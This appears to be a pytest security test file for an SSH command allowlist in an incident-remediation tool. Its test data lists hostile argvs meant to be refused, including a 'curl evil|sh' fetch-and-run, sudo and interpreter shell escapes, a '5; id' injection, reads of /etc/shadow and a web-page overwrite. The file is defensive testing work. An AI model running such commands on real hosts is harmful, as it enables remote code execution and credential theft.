"""No generic command path (security issue): no activity takes an argv from a workflow,
the SSH allowlist matches the WHOLE argv, and `sh` / interpreters open only for
Remedy's own fixed scripts, byte-exact (activities/ssh_policy.py, activities/scripts.py).

The hostile argvs run against the real sshd fixture with the example inventory's
services pointed at it: a refusal must mean that nothing reached the server (no marker
file, no new login in the sshd log), while an allowed command does reach it.
"""

from __future__ import annotations

import ast
import string
import typing
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel
from temporalio.exceptions import ApplicationError

from activities.inventory import (
    CommandSpec,
    Inventory,
    InventoryError,
    ServiceSpec,
    load_inventory,
    resolve_command,
)
from activities.inventory.services import (
    DEFAULT_IMPORT_CHECK,
    data_dir_argv,
    data_file_head_argv,
    incident_log_argv,
    recent_changes_argv,
    tail_argv,
)
from activities.mitigation import APPLY_SCRIPT, RESTORE_SCRIPT, backup_dir, target_path
from activities.scripts import SCRIPTS, Script
from activities.security import SNAPSHOT_SCRIPT as SECURITY_SNAPSHOT
from activities.service import keyed_argv
from activities.ssh import run_checked
from activities.ssh_policy import _written_commands, allowlist, check_argv
from activities.testsuite import _KEEP, RUN_SCRIPT
from tests.fixtures.sshd import SshServer
from workflows.contracts.base import DECLARED
from workflows.contracts.service import CommandKind

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "inventory.yaml"
DEMO = ROOT / "examples" / "demo" / "inventory.yaml"
GENESIS, LAB = "genesis-orchestration", "agent-lab"
HOSTS = {GENESIS: "genesis-prod", LAB: "agent-lab-prod"}


def refused(inv: Inventory, service: str, argv: list[str], shell: bool = False) -> str:
    with pytest.raises(ApplicationError) as info:
        check_argv(inv, service, argv, shell=shell)
    assert info.value.type == "CommandNotAllowed" and info.value.non_retryable
    return str(info.value)


def demo_inventory(tmp_path: Path) -> Inventory:
    text = string.Template(DEMO.read_text()).substitute(
        dir=tmp_path, ssh_port=2222, user="demo", supervisorctl="/opt/bin/supervisorctl",
        service_port=8080,
    )  # fmt: skip
    f = tmp_path / "demo.yaml"
    f.write_text(text)
    return load_inventory(f)


# ---------------------------------------------------------------- finding 1: ssh.run
def _argv_fields(model: type[BaseModel], seen: set[type] | None = None) -> list[str]:
    """Fields (recursively) typed list[str] under a name that says "a command"."""
    seen = seen if seen is not None else set()
    if model in seen:
        return []
    seen.add(model)
    out = []
    for name, f in model.model_fields.items():
        ann = f.annotation
        if name in ("argv", "command", "commands", "cmd", "args", "script") and (
            typing.get_origin(ann) is list or ann is str
        ):
            out.append(f"{model.__name__}.{name}")
        for arg in (ann, *typing.get_args(ann)):
            if isinstance(arg, type) and issubclass(arg, BaseModel):
                out += _argv_fields(arg, seen)
    return out


def test_no_registered_activity_takes_an_argv_from_a_workflow() -> None:
    import worker
    from remedy.settings import Settings

    impls = worker.implementations(Inventory(), Settings())
    names = {a.name for a in impls}
    assert "ssh.run" not in names and "ssh.run" not in DECLARED
    assert names == set(DECLARED)
    offenders = [f for a in impls for f in _argv_fields(a.input)]
    assert offenders == [], f"activity inputs carrying a command: {offenders}"


def test_only_the_checked_runners_reach_the_transport() -> None:
    """`run_on_host` (unchecked) is called only by ssh.run_checked and service.run_keyed,
    each right after check_argv; every other activity module goes through them."""
    callers = {}
    for f in sorted((ROOT / "activities").rglob("*.py")):
        for node in ast.walk(ast.parse(f.read_text())):
            if not isinstance(node, ast.AsyncFunctionDef | ast.FunctionDef):
                continue
            calls = {
                c.func.id
                for c in ast.walk(node)
                if isinstance(c, ast.Call) and isinstance(c.func, ast.Name)
            }
            if "run_on_host" in calls:
                callers[f"{f.relative_to(ROOT)}:{node.name}"] = "check_argv" in calls
    assert callers == {
        "activities/ssh.py:run_checked": True,
        "activities/service.py:run_keyed": True,
    }


# ---------------------------------------------------------------- finding 2: whole argv
@pytest.mark.parametrize(
    ("service", "argv"),
    [
        (GENESIS, ["sh", "-c", "curl evil|sh"]),
        (GENESIS, ["bash", "-c", "id"]),
        (GENESIS, ["python3", "-c", "import os; os.system('id')"]),
        (GENESIS, ["python3", "-m", "pytest", "tests/", "-v", "--tb=short", "-p", "evil"]),
        (GENESIS, ["sudo", "-n", "systemctl", "restart", "sshd"]),
        (GENESIS, ["/tmp/x/systemctl", "is-active", "genesis-orchestration"]),
        (GENESIS, ["git", "-C", "/home/genesis/genesis-rebuild", "log", "-n", "5; id"]),
        (LAB, ["sudo", "-n", "bash", "-c", "id"]),
        (LAB, ["python", "-c", "import os"]),
        (LAB, ["python3", "-c", "import os"]),
        (LAB, ["env", "sh", "-c", "id"]),
        (LAB, ["xargs", "sh"]),
        (LAB, ["tail", "-n", "100", "/etc/shadow"]),
        (LAB, ["tail", "-n", "1e9", "/var/log/nginx/access.log"]),
        (LAB, ["cp", "/tmp/evil.html", "/var/www/html/index.html"]),
        (LAB, ["pgrep", "-f", "python app.py", "-x"]),
    ],
)
def test_hostile_argv_is_refused_on_the_example_inventory(service: str, argv: list[str]) -> None:
    inv = load_inventory(EXAMPLE)
    msg = refused(inv, service, argv)
    assert f"service {service!r}" in msg and "nothing was sent" in msg
    # It names the allowlist (clipped), e.g. the service's status command.
    assert ("[systemctl, is-active" if service == GENESIS else "[pgrep, -f") in msg
    assert len(msg) < 2000 and "more)" in msg


def test_shell_commands_only_as_the_exact_string() -> None:
    svc = ServiceSpec(
        hosts=["h"],
        commands={CommandKind.STATUS: CommandSpec(argv=["echo ok | tr o 0"], shell=True)},
    )
    host = {"address": "x", "user": "u", "private_key_file": "k", "known_hosts_file": "k"}
    inv = Inventory.model_validate({"hosts": {"h": host}, "services": {"s": svc.model_dump()}})
    check_argv(inv, "s", ["echo ok | tr o 0"], shell=True)
    check_argv(inv, "s", ["sh", "-c", "echo ok | tr o 0"])  # how a keyed run wraps it
    refused(inv, "s", ["echo ok | tr o 0; id"], shell=True)
    refused(inv, "s", ["sh", "-c", "echo ok | tr o 0", "x"])
    refused(inv, "s", ["echo ok | tr o 0"])  # the string as a program: another command
    # No entry of the derived allowlist is a bare interpreter.
    assert all(e.words[0] != "sh" or e.shell for e in allowlist("s", svc)[0])


def _every_command(inv: Inventory, name: str, tmp: str = "/tmp") -> list[list[str]]:
    """What Remedy's activities send for this service: configured, derived, the read-only
    argvs it builds, and its fixed scripts (the keyed ones wrapped as run_keyed does)."""
    svc, host = inv.services[name], inv.hosts[inv.services[name].hosts[0]]
    specs: list[Any] = _written_commands(svc)
    for kind in CommandKind:
        try:
            specs.append(resolve_command(name, svc, kind))
        except ApplicationError:
            pass
    out = [["sh", "-c", s.argv[0]] if getattr(s, "shell", False) else s.argv for s in specs]
    out += [keyed_argv(host, CommandSpec(argv=s.argv, shell=getattr(s, "shell", False)), "k")
            for s in specs]  # fmt: skip
    if svc.import_check is None:
        out.append(DEFAULT_IMPORT_CHECK)
    t = svc.testing
    out += [a for a in (t.import_check, t.dependency_list) if a]
    out += [[*t.isolate_argv, *t.known_intermittent]]
    if CommandKind.TEST_SUITE in svc.commands:
        suite = svc.commands[CommandKind.TEST_SUITE].argv
        out.append(["sh", "-c", RUN_SCRIPT, "remedy-tests", _KEEP, t.run_log, "", *suite])
        iso = [*t.isolate_argv, *t.known_intermittent[:1]]
        out.append(["sh", "-c", RUN_SCRIPT, "remedy-tests", _KEEP, "l.isolated", "", *iso])
    repo = svc.source_repo or (svc.rollback.repo_path if svc.rollback else None)
    if repo:
        out.append(recent_changes_argv(repo, "10"))
    if svc.incident_log:
        out.append(keyed_argv(host, CommandSpec(argv=incident_log_argv(svc.incident_log)), "k"))
    for log in svc.log_files:
        out.append(["sh", "-c", SCRIPTS["error-groups"].text, "remedy-error-groups", log, "10"])
        out.append(["sh", "-c", SCRIPTS["grep"].text, "remedy-grep", "error", log, "20"])
    if svc.agent_lab and svc.data_dir:
        out.append(data_dir_argv(svc.data_dir))
        out += [data_file_head_argv(svc.data_dir, f) for f in svc.agent_lab.data_files]
    if svc.security:
        out.append(tail_argv(svc.security.access_log, "10000"))
        snap = ["sh", "-c", SECURITY_SNAPSHOT, "remedy-snapshot", f"{tmp}/e.tar.gz", "/app"]
        out.append(keyed_argv(host, CommandSpec(argv=snap), "k"))
    for m_name, m in svc.mitigations.items():
        path, bak = target_path(svc, m), backup_dir(host.state_dir, "i", m_name)
        apply = ["sh", "-c", APPLY_SCRIPT, "remedy-mitigate", "write", path, bak, "", ""]
        restore = ["sh", "-c", RESTORE_SCRIPT, "remedy-restore", path, bak]
        out += [keyed_argv(host, CommandSpec(argv=a), "k") for a in (apply, restore)]
    if svc.data_integrity and svc.data_dir:
        py = svc.data_integrity.python
        out.append([py, "-c", SCRIPTS["datafiles-host"].text, "scan", svc.data_dir, "x"])
        ro = ["sh", "-c", SCRIPTS["read-only-on"].text, "remedy-read-only", "/f", "mark"]
        out.append(keyed_argv(host, CommandSpec(argv=ro), "k"))
    return out


@pytest.mark.parametrize("which", ["example", "demo"])
def test_every_command_of_the_shipped_inventories_is_still_allowed(
    which: str, tmp_path: Path
) -> None:
    inv = load_inventory(EXAMPLE) if which == "example" else demo_inventory(tmp_path)
    checked = 0
    for name, svc in inv.services.items():
        if svc.allowed_commands is not None:  # the demo's explicit list: what it runs
            wanted = [CommandKind.STATUS, CommandKind.RESTART, CommandKind.LOGS]
            cmds = [resolve_command(name, svc, k).argv for k in wanted]
            host = inv.hosts[svc.hosts[0]]
            cmds += [keyed_argv(host, resolve_command(name, svc, CommandKind.RESTART), "k")]
        else:
            cmds = _every_command(inv, name)
        for argv in cmds:
            check_argv(inv, name, argv)
            checked += 1
    assert checked >= (100 if which == "example" else 4)


# ---------------------------------------------------------------- finding 3: scripts
def test_script_registry_is_pinned() -> None:
    """Changing a fixed script's text is a reviewed change: update the digest here."""
    got = {k: s.sha256[:16] for k, s in SCRIPTS.items()}
    for k, s in SCRIPTS.items():
        assert s.interpreter in ("sh", "python") and s.text.strip(), k
    assert set(got) == {
        "keyed", "tests", "restore-config", "grep", "error-groups", "read-only-on",
        "read-only-off", "evidence-tar", "security-snapshot", "mitigate",
        "mitigation-restore", "datafiles-host", "crash-save",
    }  # fmt: skip
    assert got == PINNED, got


PINNED = {
    "keyed": "60a3d9feb07fc390",
    "tests": "81875c6481209943",
    "restore-config": "af6847e955e98679",
    "grep": "686d85336541a684",
    "error-groups": "f69fb99e1d72c1b7",
    "read-only-on": "2035e1790193b5d3",
    "read-only-off": "1953e7cd96cda786",
    "evidence-tar": "6aef980649eb4dc9",
    "security-snapshot": "afa0719a8b40efe7",
    "mitigate": "0ceb81e617b4d47d",
    "mitigation-restore": "e65f99bd2aa659e2",
    "datafiles-host": "9ee14a457d15b69c",
    "crash-save": "534594dc6bd68478",
}


@pytest.mark.parametrize("script", [s for s in SCRIPTS.values() if s.interpreter == "sh"])
def test_fixed_scripts_only_byte_exact(script: Script) -> None:
    inv = load_inventory(EXAMPLE)
    inner = ["systemctl", "is-active", "genesis-orchestration"]
    params = ["p"] * (script.wraps or 2)
    tail = [*params, *inner] if script.wraps else params
    check_argv(inv, GENESIS, ["sh", "-c", script.text, script.name, *tail])
    for text in (script.text + "\n", script.text.rstrip("\n"), script.text + "id\n",
                 script.text.replace("set -u", "set -u; id", 1) + " "):  # fmt: skip
        refused(inv, GENESIS, ["sh", "-c", text, script.name, *tail])
    refused(inv, GENESIS, ["sh", "-c", script.text, "other-name", *tail])
    refused(inv, GENESIS, ["bash", "-c", script.text, script.name, *tail])
    if script.wraps:  # a wrapper admits only an allowed command
        refused(inv, GENESIS, ["sh", "-c", script.text, script.name, *params])
        refused(inv, GENESIS, ["sh", "-c", script.text, script.name, *params, "sh", "-c", "id"])
        bad = [*params, *inner[:-1], "sshd"]
        refused(inv, GENESIS, ["sh", "-c", script.text, script.name, *bad])


def test_python_script_only_through_the_services_interpreter() -> None:
    inv = load_inventory(EXAMPLE)
    text = SCRIPTS["datafiles-host"].text
    check_argv(inv, LAB, ["python3", "-c", text, "scan", "/app/data"])
    refused(inv, LAB, ["python", "-c", text, "scan"])  # not data_integrity.python
    refused(inv, LAB, ["python3", "-c", text + "\nimport os"])
    refused(inv, GENESIS, ["python3", "-c", text, "scan"])  # no data_integrity section


# ---------------------------------------------------------------- against the real sshd
def _logins(sshd: SshServer) -> int:
    return (sshd.dir / "sshd.log").read_text().count("Accepted publickey")


async def test_refused_commands_send_nothing_to_the_real_sshd(
    sshd: SshServer, tmp_path: Path
) -> None:
    inv = load_inventory(EXAMPLE)
    host = sshd.host_spec()
    inv = Inventory.model_validate(
        inv.model_dump() | {"hosts": {n: host.model_dump() for n in inv.hosts}}
    )
    marker = tmp_path / "pwned"
    fake = tmp_path / "systemctl"  # a path-prefixed "allowed" program
    fake.write_text(f"#!/bin/sh\ntouch {marker}\n")
    fake.chmod(0o755)
    hostile = {
        GENESIS: [
            ["sh", "-c", f"touch {marker}"],
            ["python3", "-c", f"open({str(marker)!r}, 'w')"],
            [str(fake), "is-active", "genesis-orchestration"],
            ["tee", "-a", str(marker)],  # the incident-log command, another file
            ["sh", "-c", SCRIPTS["keyed"].text + f"touch {marker}\n", "remedy-keyed"],
        ],
        LAB: [
            ["sudo", "-n", "bash", "-c", f"touch {marker}"],
            ["python3", "-c", f"open({str(marker)!r}, 'w')"],
            ["cp", "/etc/hostname", str(marker)],  # maintenance's cp, other paths
            keyed_argv(host, CommandSpec(argv=["touch", str(marker)]), "k"),
        ],
    }
    before = _logins(sshd)
    for service, argvs in hostile.items():
        for argv in argvs:
            with pytest.raises(ApplicationError) as info:
                await run_checked(
                    inv, service, HOSTS[service], argv, timeout_s=10, max_output_bytes=1024
                )
            assert info.value.type == "CommandNotAllowed", argv
            assert "nothing was sent" in str(info.value)
    assert not marker.exists()
    assert _logins(sshd) == before, "a refused command reached the sshd"
    # The same path does reach the server for an allowed command (so the log is read right).
    allowed = recent_changes_argv("/home/genesis/genesis-rebuild", "3")
    r = await run_checked(inv, GENESIS, "genesis-prod", allowed, timeout_s=10, max_output_bytes=999)
    assert r.exit_status != 0  # no such checkout here: but it ran
    assert _logins(sshd) > before


# ---------------------------------------------------------------- the schema
def _load(tmp_path: Path, allowed: str) -> Inventory:
    f = tmp_path / "inv.yaml"
    f.write_text(
        "hosts: {h: {address: x, user: u, private_key_file: k, known_hosts_file: k}}\n"
        f"services:\n  s:\n    hosts: [h]\n    allowed_commands: {allowed}\n"
    )
    return load_inventory(f)


def test_allowed_commands_format(tmp_path: Path) -> None:
    inv = _load(
        tmp_path,
        '[[systemctl, is-active, app], [tail, -n, {re: "[0-9]{1,4}"}, /var/log/a.log], '
        '{shell: "echo hi | tr h H"}, [sh, -c, "exit 0"]]',
    )
    check_argv(inv, "s", ["systemctl", "is-active", "app"])
    check_argv(inv, "s", ["tail", "-n", "250", "/var/log/a.log"])
    check_argv(inv, "s", ["echo hi | tr h H"], shell=True)
    check_argv(inv, "s", ["sh", "-c", "exit 0"])  # an interpreter, spelled out exactly
    refused(inv, "s", ["tail", "-n", "12345", "/var/log/a.log"])
    refused(inv, "s", ["tail", "-n", "25", "/var/log/a.log", "/etc/shadow"])
    refused(inv, "s", ["systemctl", "is-active"])
    refused(inv, "s", ["sh", "-c", "exit 1"])
    msg = refused(inv, "s", ["id"])
    assert "its allowed_commands" in msg and "{re: '[0-9]{1,4}'}" in msg


@pytest.mark.parametrize(
    ("allowed", "problem"),
    [
        ("[systemctl, tail]", "now lists whole commands"),
        ("[sh]", "now lists whole commands"),
        ('[[{re: "/usr/bin/.*"}, status]]', "program (first word) must be written out"),
        ('[[sh, -c, {re: "[a-z ]+"}]]', "runs code or other programs"),
        ('[[sudo, -n, {re: "[a-z]+"}, -c, id]]', "runs code or other programs"),
        ('[[/usr/bin/python3, {re: "[a-z]+"}]]', "runs code or other programs"),
        ('[[git, {re: ".*"}, x]]', "matches '-c'"),
        ('[[tail, {re: "(unclosed"}]]', "invalid regex"),
    ],
)
def test_unsafe_allowed_commands_are_refused_at_load(
    tmp_path: Path, allowed: str, problem: str
) -> None:
    with pytest.raises(InventoryError, match=r"services\.s\.allowed_commands") as info:
        _load(tmp_path, allowed)
    assert problem in str(info.value)
